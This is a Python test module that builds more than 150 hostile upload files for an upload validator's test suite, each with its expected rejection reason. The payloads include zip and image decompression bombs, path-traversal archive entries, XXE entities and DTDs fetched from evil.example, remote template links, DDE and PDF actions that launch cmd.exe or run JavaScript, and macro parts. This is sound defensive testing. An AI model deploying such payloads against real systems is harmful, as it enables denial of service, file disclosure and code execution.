"""More than 150 files that must not be taken, each with the reason that is told.

    python -m tests.files.corpus FOLDER      # writes them out, with a list of the reasons

Made by program and always the same: no bad file lies in the repository.
"""

import io
import sys
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from random import Random
from struct import pack, unpack_from

from courses.errors import Reason
from tests.files.good import (
    chunk,
    odt,
    odt_entries,
    ooxml,
    ooxml_entries,
    packed,
    pdf,
    picture,
)

R = Reason
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
OFFICE = {"docx": ooxml("docx"), "pptx": ooxml("pptx"), "xlsx": ooxml("xlsx"), "odt": odt()}
ALL = {**OFFICE, "pdf": pdf(), "png": picture(), "jpg": picture("JPEG")}


@dataclass(frozen=True)
class Bad:
    name: str
    content: bytes
    reasons: tuple[Reason, ...]
    """Any of these is right; for most there is one."""


def corpus() -> Iterator[Bad]:
    """Give the bad files one by one."""
    for make in (
        _empty_and_other, _renamed, _truncated, _locked, _bombs, _names, _polyglots, _macros,
        _entities, _active_pdfs, _broken_pictures, _nested, _damaged,
    ):
        yield from make()


def _empty_and_other() -> Iterator[Bad]:
    for ending in ALL:
        yield Bad(f"tom.{ending}", b"", (R.UPLOAD_EMPTY,))
    others = {
        "svg": SVG, "html": HTML, "htm": HTML, "xhtml": HTML, "js": b"alert(1)", "exe": b"MZ\x90",
        "zip": packed([("a.txt", "a")]), "doc": OLE, "xls": OLE, "ppt": OLE, "gif": b"GIF89a",
        "webp": b"RIFF", "heic": b"\0\0\0\x18ftypheic", "txt": EICAR, "rtf": b"{\\rtf1}",
        "ods": odt(media="application/vnd.oasis.opendocument.spreadsheet"), "csv": b"=cmd()",
        "eml": b"From: a", "pdf.exe": b"MZ\x90", "": b"utan",
    }
    for ending, content in others.items():
        yield Bad(f"fil.{ending}" if ending else "fil", content, (R.UPLOAD_TYPE,))


def _renamed() -> Iterator[Bad]:
    for ending in ALL:
        for content in (HTML, SVG, b"MZ\x90\0" + b"\0" * 200, b"GIF89a" + b"\0" * 50, EICAR):
            yield Bad(f"omdöpt.{ending}", content, (R.UPLOAD_MISMATCH,))
    for ending, other in (
        ("pdf", "docx"), ("docx", "pdf"), ("png", "jpg"), ("jpg", "png"), ("docx", "xlsx"),
        ("xlsx", "pptx"), ("pptx", "odt"), ("odt", "docx"), ("docx", "png"),
    ):
        yield Bad(f"omdöpt.{ending}", ALL[other], (R.UPLOAD_MISMATCH,))
    yield Bad("vanlig-zip.docx", packed([("a.txt", "a")]), (R.UPLOAD_MISMATCH,))
    yield Bad(
        "kalkyl.odt", odt(media="application/vnd.oasis.opendocument.spreadsheet"),
        (R.UPLOAD_MISMATCH,),
    )


def _truncated() -> Iterator[Bad]:
    for ending, content in ALL.items():
        for share in (0.3, 0.6, 0.9, 0.99):
            yield Bad(
                f"avbruten-{share}.{ending}", content[: int(len(content) * share)],
                (R.UPLOAD_UNREADABLE,),
            )


def _locked() -> Iterator[Bad]:
    for ending in ("docx", "xlsx", "pptx"):
        yield Bad(f"lösenord.{ending}", OLE, (R.UPLOAD_UNREADABLE,))
    for ending, content in OFFICE.items():
        locked = bytearray(content)
        for place in _all(content, b"PK\x03\x04"):
            locked[place + 6] |= 1
        for place in _all(content, b"PK\x01\x02"):
            locked[place + 8] |= 1
        yield Bad(f"krypterad.{ending}", bytes(locked), (R.UPLOAD_UNREADABLE,))
    secret = '<manifest:encryption-data manifest:checksum="x"/>'
    yield Bad("låst.odt", odt(manifest=secret), (R.UPLOAD_UNREADABLE,))
    yield Bad("låst.pdf", _locked_pdf(), (R.UPLOAD_UNREADABLE,))


def _locked_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(PdfReader(io.BytesIO(pdf())))
    writer.encrypt("hemligt", algorithm="AES-256")
    data = io.BytesIO()
    writer.write(data)
    return data.getvalue()


def _bombs() -> Iterator[Bad]:
    zeros = b"\0" * 50_000_000
    one = packed([("word/media/a.png", zeros)])
    for ending in OFFICE:
        flat = OFFICE_ENTRIES[ending](more=[("media/bomb.png", zeros)])
        yield Bad(f"bomb.{ending}", packed(flat, stored=("mimetype",)), (R.UPLOAD_UNPACKS,))
        many = OFFICE_ENTRIES[ending](more=[(f"media/{n}.png", "x") for n in range(2_100)])
        yield Bad(f"många.{ending}", packed(many, stored=("mimetype",)), (R.UPLOAD_UNPACKS,))
        total = OFFICE_ENTRIES[ending](more=[(f"media/{n}.png", b"\0" * 9_000_000)
                                             for n in range(25)])
        yield Bad(f"summa.{ending}", packed(total, stored=("mimetype",)), (R.UPLOAD_UNPACKS,))
    yield Bad("nästlad-bomb.docx", ooxml("docx", more=[("word/a.bin", one)]), (R.UPLOAD_NESTED,))
    for declared in (10, 1_000, 40_000_000):
        yield Bad(
            f"ljuger-{declared}.docx", _lying(declared), (R.UPLOAD_UNPACKS, R.UPLOAD_UNREADABLE)
        )
    yield Bad("överlappande.docx", _overlapping(), (R.UPLOAD_UNREADABLE, R.UPLOAD_UNPACKS))
    yield Bad("42.zip.docx", _forty_two(), (R.UPLOAD_NESTED, R.UPLOAD_UNPACKS))
    big = f"<w:document xmlns:w='w'>{'<w:p/>' * 3_000_000}</w:document>"
    yield Bad("tight.docx", _replaced("word/document.xml", big), (R.UPLOAD_UNPACKS,))
    yield Bad("bomb.png", _huge_png(60_000, 60_000), (R.UPLOAD_PIXELS,))
    yield Bad("bomb2.png", _huge_png(12_000, 12_000), (R.UPLOAD_PIXELS,))
    yield Bad("bomb.jpg", _huge_jpeg(65_000, 65_000), (R.UPLOAD_PIXELS,))
    yield Bad("bomb2.jpg", _huge_jpeg(20_000, 20_000), (R.UPLOAD_PIXELS,))
    stream = zlib.compress(b"\0" * 300_000_000, 9)
    yield Bad(
        "bomb.pdf",
        pdf(catalog=b"/X 6 0 R", head=b"%PDF-1.7\n", objects=[
            b"<</Type/ObjStm/N 9/First 9/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
            % (len(stream), stream),
        ]).replace(b"startxref\n", b"startxref\n9"),
        (R.UPLOAD_UNREADABLE,),
    )


def _lying(declared: int) -> bytes:
    """A part that says it becomes `declared` bytes and becomes 50 million."""
    content = Random(1).randbytes(60_000) * 50  # noqa: S311 - always the same
    data = bytearray(ooxml("docx", more=[("word/media/a.png", content)]))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = _all(bytes(data), mark)[-1]
        data[place + at : place + at + 4] = pack("<L", declared)
    return bytes(data)


def _overlapping() -> bytes:
    """Two entries of the directory that point at the same data."""
    content = ooxml("docx", more=[("word/media/a.png", "a" * 500)])
    data = bytearray(content)
    first, last = _all(content, b"PK\x01\x02")[2], _all(content, b"PK\x01\x02")[-1]
    data[last + 42 : last + 46] = data[first + 42 : first + 46]
    return bytes(data)


def _forty_two() -> bytes:
    inner = packed([("0.bin", b"\0" * 1_000_000)])
    for _ in range(3):
        inner = packed([(f"lib{n}.zip", inner) for n in range(16)])
    return ooxml("docx", more=[("word/embeddings/lib.zip", inner)])


def _huge_png(width: int, height: int) -> bytes:
    head = pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 5_000_000, 9)
    return picture()[:8] + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _huge_jpeg(width: int, height: int) -> bytes:
    data = bytearray(picture("JPEG"))
    place = data.index(b"\xff\xc0")
    data[place + 5 : place + 9] = pack(">HH", height, width)
    return bytes(data)


def _names() -> Iterator[Bad]:
    """Documents with parts that would lie elsewhere when they are unpacked."""
    for name in (
        "../../../etc/passwd", "..\\..\\a.xml", "/etc/passwd", "C:/a.xml", "word/../../a.xml",
        "word//a.xml", "a\x01b.xml", "a\u202egnp.xml", "word/\u2028.xml", "word/\u0085.xml",
    ):
        yield Bad(
            "stig.docx", ooxml("docx", more=[(name, "a")]), (R.UPLOAD_UNREADABLE,)
        )
    twice = ooxml("docx", more=[("WORD/document.xml", "<a/>")])
    yield Bad("dubbel.docx", twice, (R.UPLOAD_UNREADABLE,))
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr, link.create_system = 0o120777 << 16, 3
    data = io.BytesIO(OFFICE["docx"])
    with zipfile.ZipFile(data, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    yield Bad("länk.docx", data.getvalue(), (R.UPLOAD_UNREADABLE,))


def _polyglots() -> Iterator[Bad]:
    archive = packed([("a.txt", "a")])
    for ending in OFFICE:
        yield Bad(f"framför.{ending}", b"<html>" + OFFICE[ending], (R.UPLOAD_MISMATCH,))
        yield Bad(f"bakom.{ending}", OFFICE[ending] + HTML, (R.UPLOAD_UNREADABLE,))
        with_comment = OFFICE[ending][:-2] + pack("<H", len(HTML)) + HTML
        yield Bad(f"kommentar.{ending}", with_comment, (R.UPLOAD_UNREADABLE,))
    for hidden in (HTML, archive, EICAR, b"MZ\x90\0"):
        yield Bad("bakom.pdf", pdf() + hidden, (R.UPLOAD_UNREADABLE,))
        yield Bad("bakom.png", picture() + hidden, (R.UPLOAD_MISMATCH,))
    for hidden in (HTML, SVG, archive, pdf(), b"<?php phpinfo();"):
        yield Bad("bakom.jpg", picture("JPEG") + hidden, (R.UPLOAD_MISMATCH,))
    yield Bad("i-kommentar.jpg", picture("JPEG", comment=HTML), (R.UPLOAD_MISMATCH,))
    text = picture()[:-12] + chunk(b"tEXt", b"a\0" + HTML) + picture()[-12:]
    yield Bad("i-text.png", text, (R.UPLOAD_MISMATCH,))
    yield Bad("framför.pdf", HTML + pdf(), (R.UPLOAD_MISMATCH,))
    yield Bad("dubbel.pdf", OFFICE["docx"] + pdf(), (R.UPLOAD_MISMATCH,))


def _macros() -> Iterator[Bad]:
    for ending in ("docm", "xlsm", "pptm", "dotm"):
        yield Bad(f"makro.{ending}", OFFICE["docx"], (R.UPLOAD_MACROS,))
    for ending in ("docx", "pptx", "xlsx"):
        folder = {"docx": "word", "pptx": "ppt", "xlsx": "xl"}[ending]
        yield Bad(
            f"vba.{ending}", ooxml(ending, more=[(f"{folder}/vbaProject.bin", OLE)]),
            (R.UPLOAD_MACROS,),
        )
        listed = '<Override PartName="/a" ContentType="application/vnd.ms-office.vbaProject"/>'
        yield Bad(f"vba-lista.{ending}", ooxml(ending, listing=listed), (R.UPLOAD_MACROS,))
        yield Bad(
            f"activex.{ending}", ooxml(ending, more=[(f"{folder}/activeX/activeX1.xml", "<a/>")]),
            (R.UPLOAD_MACROS,),
        )
        enabled = OFFICE_ENTRIES[ending]()
        enabled[0] = (enabled[0][0], enabled[0][1].replace(
            "main+xml", "main.macroEnabled+xml").replace("document.main.macro", "macro"))
        yield Bad(f"macroEnabled.{ending}", packed(enabled),
                  (R.UPLOAD_MACROS, R.UPLOAD_MISMATCH))
    yield Bad("basic.odt", odt(more=[("Basic/Standard/Module1.xml", "<a/>")]), (R.UPLOAD_MACROS,))
    yield Bad("skript.odt", odt(more=[("Scripts/python/a.py", "a")]), (R.UPLOAD_MACROS,))
    yield Bad("händelse.odt", odt("vnd.sun.star.script:a"), (R.UPLOAD_MACROS,))
    yield Bad("html-inuti.docx", ooxml("docx", more=[("word/a.html", "a")]), (R.UPLOAD_MACROS,))
    dde = _replaced(
        "word/document.xml",
        "<w:document xmlns:w='w'><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>",
    )
    yield Bad("dde.docx", dde, (R.UPLOAD_MACROS,))
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    for kind, target in (
        ("attachedTemplate", "https://evil.example/a.dotm"), ("oleObject", "mhtml:http://a!x"),
        ("frame", "\\\\evil.example\\a"), ("attachedTemplate", "//evil.example/a.dotm"),
    ):
        rels = f'<Relationship Id="r" Type="{office}/{kind}" Target="{target}" ' \
               'TargetMode="External"/>'
        yield Bad("hämtar.docx", ooxml("docx", rels=rels), (R.UPLOAD_MACROS,))


def _entities() -> Iterator[Bad]:
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10)
    )
    for text in (
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        f"<!DOCTYPE a [{laughs}]><a>&l9;</a>",
        '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
        '<!doctype a [<!ENTITY % p SYSTEM "http://evil.example/">%p;]><a/>', "<a><b></a>",
        "inte xml", "<a>" * 5_000 + "</a>" * 5_000, "\ufeff" + "<!DOCTYPE a><a/>",
    ):
        yield Bad("entiteter.docx", _replaced("word/document.xml", text), (R.UPLOAD_UNREADABLE,))
        entries = [(n, text if n == "content.xml" else c) for n, c in odt_entries()]
        yield Bad("entiteter.odt", packed(entries, stored=("mimetype",)), (R.UPLOAD_UNREADABLE,))
    wide = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")
    yield Bad("utf16.docx", _replaced("word/document.xml", wide), (R.UPLOAD_UNREADABLE,))


def _active_pdfs() -> Iterator[Bad]:
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    for catalog in (
        b"/OpenAction" + script, b"/AA<</WC" + script + b">>",
        b"/OpenAction<</S/#4aavaScript/#4aS(a)>>",
        b"/OpenAction<</S/Launch/F(cmd.exe)>>", b"/OpenAction<</S/SubmitForm/F(http://a)>>",
        b"/OpenAction<</S/ImportData/F(a)>>", b"/OpenAction<</S/GoToR/F(a.pdf)/D[0/Fit]>>",
        b"/Names<</JavaScript<</Names[(a)" + script + b"]>>>>", b"/AcroForm<</XFA(a)>>",
    ):
        yield Bad("aktiv.pdf", pdf(catalog=catalog), (R.UPLOAD_ACTIVE,))
    yield Bad("aktiv-annanstans.pdf", pdf(catalog=b"/OpenAction 6 0 R", objects=[script]),
              (R.UPLOAD_ACTIVE,))
    for catalog, objects in (
        (b"/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>", [b"<</Type/Filespec/F(a)/EF<<>>>>"]),
        (b"", [b"<</Type/EmbeddedFile/Length 1>>stream\na\nendstream"]),
    ):
        yield Bad("bilaga.pdf", pdf(catalog=catalog, objects=objects), (R.UPLOAD_NESTED,))
    loop = pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")
    yield Bad("ring.pdf", loop, (R.UPLOAD_UNREADABLE,))
    yield Bad("utan-sidor.pdf", pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[     ]/Count 0"),
              (R.UPLOAD_UNREADABLE,))
    yield Bad("bara-huvud.pdf", b"%PDF-1.7\n%%EOF\n", (R.UPLOAD_UNREADABLE,))


def _broken_pictures() -> Iterator[Bad]:
    damaged = bytearray(picture())
    damaged[60] ^= 0xFF
    yield Bad("fel-crc.png", bytes(damaged), (R.UPLOAD_UNREADABLE,))
    head, rest = picture()[:33], picture()[33:]
    yield Bad("utan-ihdr.png", picture()[:8] + rest, (R.UPLOAD_UNREADABLE,))
    yield Bad("utan-bild.png", head + chunk(b"IEND", b""), (R.UPLOAD_UNREADABLE,))
    yield Bad("skräp.png", head + b"\0" * 100, (R.UPLOAD_UNREADABLE,))
    yield Bad("skräp.jpg", b"\xff\xd8\xff" + b"\0" * 100, (R.UPLOAD_UNREADABLE,))
    yield Bad("utan-bild.jpg", b"\xff\xd8\xff\xd9", (R.UPLOAD_UNREADABLE,))
    yield Bad("lång.jpg", b"\xff\xd8\xff\xe1\xff\xff" + b"a" * 50, (R.UPLOAD_UNREADABLE,))


def _nested() -> Iterator[Bad]:
    for name, content in (
        ("word/embeddings/a.xlsx", OFFICE["xlsx"]), ("word/embeddings/ole.bin", OLE),
        ("word/media/a.png", packed([("eicar.com", EICAR)])), ("word/a.dat", b"Rar!\x1a\x07\0"),
        ("word/a.dat", b"7z\xbc\xaf\x27\x1c"), ("word/a.dat", b"\x1f\x8b\x08"),
        ("word/a.dat", b"MZ\x90\0"), ("word/a.dat", b"\x7fELF"), ("word/a.dat", pdf()),
    ):
        yield Bad("inbäddad.docx", ooxml("docx", more=[(name, content)]), (R.UPLOAD_NESTED,))
    yield Bad("inbäddad.odt", odt(more=[("Object 1", packed([("a", "a")]))]), (R.UPLOAD_NESTED,))


def _damaged() -> Iterator[Bad]:
    """A byte changed in the middle of what a document holds."""
    for ending, content in OFFICE.items():
        place = _all(content, b"PK\x03\x04")[1]
        size = unpack_from("<L", content, _all(content, b"PK\x01\x02")[1] + 20)[0]
        name = unpack_from("<H", content, place + 26)[0]
        damaged = bytearray(content)
        damaged[place + 30 + name + size // 2] ^= 0x55
        if size:
            yield Bad(f"skadad.{ending}", bytes(damaged), (R.UPLOAD_UNREADABLE,))


def _replaced(name: str, content: str | bytes) -> bytes:
    return packed([(n, content if n == name else c) for n, c in ooxml_entries("docx")])


def _all(content: bytes, mark: bytes) -> list[int]:
    places, at = [], content.find(mark)
    while at >= 0:
        places.append(at)
        at = content.find(mark, at + 1)
    return places


OFFICE_ENTRIES = {
    **{kind: lambda kind=kind, **parts: ooxml_entries(kind, **parts)
       for kind in ("docx", "pptx", "xlsx")},
    "odt": odt_entries,
}

if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for number, bad in enumerate(corpus(), 1):
        (folder / f"{number:03}-{bad.name}").write_bytes(bad.content)
        print(number, bad.name, *bad.reasons)
